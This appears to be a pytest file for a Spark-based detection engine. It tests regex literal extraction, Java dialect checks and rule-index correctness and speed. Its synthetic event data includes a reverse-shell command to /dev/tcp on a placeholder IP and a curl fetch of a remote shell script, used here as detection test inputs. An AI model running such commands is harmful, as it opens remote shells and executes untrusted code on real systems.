"""Required literals of patterns, the dialect check, and the index over many rules."""

import random
import re
import time

import pytest

from nightjar.operators.detect import detect, matches
from nightjar.plans.compile import predicate, prepare
from nightjar.rules import patterns
from nightjar.rules.builtin import CHAINS, RULES
from nightjar.rules.model import RuleError, check_regex, parse_rule

from test_detect_and_chains import events


@pytest.mark.parametrize(
    "pattern,found",
    [
        ("foo", {"foo"}), (r"\bcurl\s+http", {"curl"}), ("(abc|defg)x", {"abc", "defg"}), ("(abc)?x", None), ("(?:abc)+", {"abc"}), ("a.b", None), ("^Start[0-9]+end$", {"start"}),
        ("(abc|d)", None), ("xx|yyy", None), ("(?i)abc", {"abc"}), ("a(?i:bcd)", None), ("[a-c]def{2,}ghi", {"ghi"}), (r"\x41bcd", {"abcd"}), ("", None), ("(?=abc)d", None), ("(?!abc)defg", {"defg"}), ("ab{0}cde", {"cde"}), ("éclair", {"clair"}),
    ],
)
def test_required_literals(pattern, found):
    assert patterns.required(pattern) == (frozenset(found) if found else None)


def shipped():
    out = [r.detection[c] for r in RULES for c in ("command_regex", "user_pattern") if c in r.detection]
    return out + [s.match["command_regex"] for c in CHAINS for s in c.stages if "command_regex" in s.match]


def some_match(tree, rng):
    """A random text that a parse tree matches."""
    from re import _constants as K

    out = ""
    for op, arg in tree:
        if op is K.LITERAL:
            out += chr(arg)
        elif op is K.NOT_LITERAL:
            out += chr(arg + 1)
        elif op is K.ANY:
            out += rng.choice("xyz ")
        elif op is K.IN:
            items = [a for a in arg if a[0] is not K.NEGATE]
            if arg[0][0] is K.NEGATE:
                out += next(c for c in "~x 0A_" if not re.fullmatch("[%s]" % "".join({"LITERAL": lambda v: re.escape(chr(v)), "RANGE": lambda v: f"{re.escape(chr(v[0]))}-{re.escape(chr(v[1]))}", "CATEGORY": lambda v: {K.CATEGORY_SPACE: r"\s", K.CATEGORY_DIGIT: r"\d", K.CATEGORY_WORD: r"\w", K.CATEGORY_NOT_SPACE: r"\S"}[v]}[str(a[0])](a[1]) for a in items), c))
            else:
                kind, v = rng.choice(items)
                out += chr(v) if kind is K.LITERAL else chr(v[0]) if kind is K.RANGE else {K.CATEGORY_SPACE: " ", K.CATEGORY_DIGIT: "7", K.CATEGORY_WORD: "w", K.CATEGORY_NOT_SPACE: "n", K.CATEGORY_NOT_DIGIT: "n", K.CATEGORY_NOT_WORD: "-"}[v]
        elif op in (K.MAX_REPEAT, K.MIN_REPEAT):
            for _ in range(arg[0] + rng.randrange(2) if arg[1] > arg[0] else arg[0]):
                out += some_match(arg[2], rng)
        elif op is K.SUBPATTERN:
            out += some_match(arg[3], rng)
        elif op is K.BRANCH:
            out += some_match(rng.choice(arg[1]), rng)
    return out


def test_shipped_patterns_contain_their_literals_and_compile_in_java(spark):
    """Texts made from each pattern's parse tree hold one of its literals, and Java accepts the pattern."""
    rng, with_literals = random.Random(1), 0
    for pattern in shipped():
        assert patterns.java_error(spark, pattern) is None and patterns.check(pattern) is None
        words = patterns.required(pattern)
        for _ in range(40):
            text = some_match(re._parser.parse(pattern.removeprefix('(?i)')), rng)
            if re.search(pattern, text, re.I) and words:
                assert any(w in text.lower() for w in words), (pattern, text, words)
        with_literals += words is not None
    assert with_literals == len(shipped())


def test_foreign_dialect_is_refused(spark):
    for bad in (r"(?P<n>a)", r"(a)?(?(1)b|c)", r"a\Z", r"a(?#note)", r"(?a)x", r"(?u:x)", "[a&&b]", "[[a]", "(", r"\N{DASH}"):
        with pytest.raises(RuleError):
            check_regex("x", bad)
    for good in (r"a\\Z", r"\[\[a", r"(?i:x)", r"[\[a]", r"a(?!b)", r"[^\s]+"):
        check_regex("x", good)
    assert patterns.java_error(spark, "(") and patterns.java_error(spark, "a+") is None


def many(n, names=5):
    rules = []
    for k in range(n):
        d = {"process_name": f"test_process_{k % names}", "command_contains": [f"pattern_{k % 10}"]}
        if k % 7 == 3:
            d = {"command_regex": rf"run_{k}\s+now|other_{k}x"}
        elif k % 7 == 5:
            d = {"command_contains_any": [f"some_{k}", f"thing_{k}"], "user_pattern": "^u"}
        rules.append(parse_rule({"id": f"LNX-{k % 1000:03d}", "name": "t", "platform": "linux", "severity": "low", "detection": d}))
    return rules


def test_index_finds_what_each_rule_alone_finds(spark):
    rng, rules = random.Random(2), many(40) + RULES
    words = ["pattern_3", "PATTERN_4", "run_3 now", "other_10x", "ſome_5", "some_12", "thing_19", "curl http://x/y.sh", "x", "-enc", "bash -i >& /dev/tcp/1.2.3.4/9", "KRUN_17 NOW", "Kelvin"]
    rows = [dict(process_name=rng.choice([*[f"test_process_{k}" for k in range(6)], "curl", "bash", "powershell.exe", ""]), command_line=" ".join(rng.choices(words, k=rng.randrange(4))), user=rng.choice(["u", "root"]), platform=rng.choice(["linux", "linux", "windows", "macos"])) for _ in range(300)]
    df = events(spark, rows)
    got = sorted((r["event_id"], r["rule_no"]) for r in matches(df, rules).select("event_id", "rule_no").collect())
    ready = prepare(df)
    flags = ready.select("event_id", *[predicate(x).alias(f"r{k}") for k, x in enumerate(rules)]).collect()
    expected = sorted((r["event_id"], k) for r in flags for k in range(len(rules)) if r[f"r{k}"])
    assert got == expected and len(got) > 50


def test_a_thousand_rules_cost_little_on_events_that_match_none(spark):
    base = events(spark, [dict(process_name=f"idle{k % 7}", command_line=f"idle --work {k}") for k in range(50)])
    df = base.crossJoin(spark.range(4000)).drop("id").repartition(4)
    df.write.mode("overwrite").format("noop").save()

    def took(rules):
        best = 1e9
        for _ in range(3):
            began = time.time()
            detect(df, rules, explain=False).write.mode("overwrite").format("noop").save()
            best = min(best, time.time() - began)
        return best

    named = [r for r in many(1500) if "process_name" in r.criteria][:1000]
    few, thousand = took(RULES), took(named)
    print(few, thousand)
    assert thousand < 3 * few + 3, (few, thousand)  # generous: machines are shared
    assert detect(df, named).count() == 0
